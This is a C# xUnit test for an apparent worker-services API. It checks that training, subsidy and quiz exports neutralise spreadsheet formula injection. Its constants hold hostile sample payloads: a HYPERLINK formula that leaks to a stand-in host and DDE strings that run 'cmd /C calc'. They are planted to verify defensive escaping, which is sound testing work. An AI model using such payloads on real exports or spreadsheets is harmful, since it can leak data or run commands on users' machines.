using System.Net;
using Changai.Api.Tests.Infrastructure;
using Changai.Api.Tests.Quiz;
using Changai.Api.Tests.Subsidies;
using Changai.Api.Tests.Training;
using Changai.Domain.Sheets;
using Microsoft.EntityFrameworkCore;
using Xunit;

namespace Changai.Api.Tests.Sheets;

/// <summary>
/// One rule for every export: text a worker or an officer typed that a spreadsheet would run as a formula comes out
/// neutralised. The values are planted in the database (input validation is not what is tested here) in fields each
/// export shows, then every export is downloaded over HTTP and every cell checked.
/// </summary>
public sealed class FormulaInjectionTests(ApiFactory api) : IClassFixture<ApiFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://x.example/?leak\",\"点击领取\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    private const string Tab = "\t=1+1";

    [Fact]
    public async Task No_export_has_a_cell_a_spreadsheet_would_run_as_a_formula()
    {
        // Training roster: the worker's employer.
        var trainer = await api.OfficerAsync("km.guandu");
        var (_, sessions) = await TrainingKit.PublishedCourseAsync(trainer, TrainingKit.Course(TrainingKit.Unique("公式注入培训")),
            TrainingKit.Session(DateTime.UtcNow.AddDays(3), 5));
        var trainee = await api.NewWorkerAsync();
        await trainee.CompleteIdentityAsync(IdNumbers.Random("530111"), "13987650001", "张建国");
        await trainee.EnrolAsync(sessions[0]).Expect(HttpStatusCode.Created);

        // Subsidies: the programme's name and the applicant's name.
        var city = await api.OfficerAsync("km.shi");
        var programId = await city.CreateHardshipProgramAsync("公式注入互助", 100_000_00, ["city"]);
        var applicant = await api.MemberAsync();
        var applicationId = await applicant.SubmitHardshipAsync(programId);
        await city.ApproveAsync(applicationId).Expect(HttpStatusCode.OK);

        // Quiz: a campaign someone took, so its figures list questions and unions.
        var campaign = await api.PublishedCampaignAsync();
        await api.TakeAsync(await api.KunmingWorkerAsync(), campaign, correct: 5);

        await api.WithDbAsync(async db =>
        {
            await db.Workers.Where(w => w.Id == trainee.Id).ExecuteUpdateAsync(s => s.SetProperty(w => w.Employer, Hyperlink));
            await db.SubsidyPrograms.Where(p => p.Id == programId).ExecuteUpdateAsync(s => s.SetProperty(p => p.Name, Sum));
            await db.SubsidyApplications.Where(a => a.Id == applicationId).ExecuteUpdateAsync(s => s.SetProperty(a => a.ApplicantName, Command));
            await db.QuizQuestionVersions.ExecuteUpdateAsync(s => s.SetProperty(v => v.Stem, Hyperlink).SetProperty(v => v.Explanation, Minus).SetProperty(v => v.Chapter, Tab));
            return await db.Unions.Where(u => u.Code == "530111001" || u.Code == "5301").ExecuteUpdateAsync(s => s.SetProperty(u => u.Name, Command));
        });

        var quiz = await api.OfficerAsync("km.quiz");
        var exports = new (HttpClient Officer, string Path, string[] Planted)[]
        {
            (trainer, $"/api/officer/training/sessions/{sessions[0]}/enrollments/export", [Hyperlink]),
            (city, $"/api/officer/subsidies/applications/export?programId={programId}", [Sum, Command]),
            (quiz, "/api/officer/quiz/questions/export?format=csv", [Hyperlink, Minus, Tab]),
            (quiz, "/api/officer/quiz/questions/export?format=xlsx", [Hyperlink, Minus, Tab]),
            (quiz, $"/api/officer/quiz/campaigns/{campaign}/figures/export?table=questions", [Hyperlink]),
            (quiz, $"/api/officer/quiz/campaigns/{campaign}/figures/export?table=unions", []),
            (quiz, $"/api/officer/quiz/campaigns/{campaign}/figures/export?table=prefectures", []),
            (quiz, $"/api/officer/quiz/campaigns/{campaign}/figures/export?table=days", []),
        };

        foreach (var (officer, path, planted) in exports)
        {
            var response = await officer.GetAsync(path).Expect(HttpStatusCode.OK);
            var bytes = await response.Content.ReadAsByteArrayAsync();
            var cells = (Xlsx.LooksLikeXlsx(bytes) ? Xlsx.Read(bytes) : Csv.Read(new MemoryStream(bytes))).SelectMany(r => r.Cells).ToList();
            Assert.True(cells.Count > 0, path);
            foreach (var cell in cells)
            {
                // What a spreadsheet runs: a leading = + - @, tab or CR (a plain negative number is only a number).
                var runs = cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && !System.Text.RegularExpressions.Regex.IsMatch(cell, @"^-\d+(\.\d+)?$");
                Assert.False(runs, $"{path}: a cell starts like a formula: {cell}");
            }

            foreach (var value in planted)
            {
                Assert.Contains("'" + value, cells); // the planted text is there, whole, behind the apostrophe
            }
        }
    }
}
